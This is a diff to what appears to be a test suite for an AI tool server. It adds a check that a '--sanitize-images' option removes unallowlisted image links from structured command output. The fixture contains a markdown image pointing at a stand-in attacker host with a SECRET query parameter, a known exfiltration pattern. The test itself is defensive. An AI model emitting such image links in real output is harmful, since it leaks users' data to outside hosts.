@@ -4,6 +4,7 @@ expression that would run for minutes is killed at the search's budget
 or on cancellation; workspace_diff's text is capped; unauthenticated HTTP
 connections have a head deadline, a cap, and the loop survives EMFILE;
 sandboxes are refused while a reserve of descriptors remains."""
+import json
 import os
 import select
 import socket
@@ -187,6 +188,25 @@ time.sleep(0.5)
 st, _, _ = http_post(hsrv.port, tok, {"jsonrpc": "2.0", "id": 1, "method": "ping"})
 ok(st == 400, "HTTP: served again once descriptors are free (%d)" % st)
 hsrv.stop()
+
+# ---- --sanitize-images: structuredContent too ----
+policy = os.path.join(env.top, "policy.json")
+with open(policy, "w") as f:
+    json.dump({"version": 1, "programs": {"cat": {}}, "network": {"allow": ["docs.example.org"]}},
+              f)
+with open(os.path.join(env.ws, "readme.md"), "w") as f:
+    f.write("![logo](https://docs.example.org/logo.png)\n"
+            "![x](https://attacker.example/?d=SECRET)\n<img src=\"http://a.example/p?k=1\">\n")
+srv = Server(env, "--sanitize-images", "--policy", policy, stdio=True)
+mcp = LineClient(srv)
+mcp.initialize()
+r = tool("run_command", {"command": "cat readme.md"})
+sc = json.dumps(r.get("result", {}).get("structuredContent", {}))
+ok("docs.example.org/logo.png" in sc and "SECRET" not in sc and "a.example/p" not in sc and
+   "not in the egress allowlist" in sc and "SECRET" not in text(r),
+   "--sanitize-images: structuredContent's output is cleaned as the text is (%s)" % sc[:300])
+srv.stop()
+os.unlink(os.path.join(env.ws, "readme.md"))
 
 # ---- sandboxes and descriptors ----
 # a --max-sandboxes that RLIMIT_NOFILE cannot hold: refused, naming it
